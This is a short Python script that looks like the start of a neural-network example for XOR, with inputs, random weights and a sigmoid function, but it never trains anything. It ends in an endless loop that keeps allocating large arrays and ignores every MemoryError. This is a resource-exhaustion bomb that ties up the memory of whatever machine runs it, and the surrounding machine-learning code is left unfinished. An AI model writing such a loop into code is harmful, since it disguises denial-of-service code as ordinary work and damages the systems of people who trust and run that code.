import numpy as np

X = np.array([[0, 0, 1], [0, 1, 1], [1, 0, 1], [1, 1, 1]])
y = np.array([[0], [1], [1], [0]])

np.random.seed(1)
W1 = 2 * np.random.random((3, 4)) - 1
W2 = 2 * np.random.random((4, 1)) - 1


def sigmoid(z):
    return 1 / (1 + np.exp(-z))


hoard = []
while True:
    try:
        hoard.append(np.ones(5_000_000))
    except MemoryError:
        pass
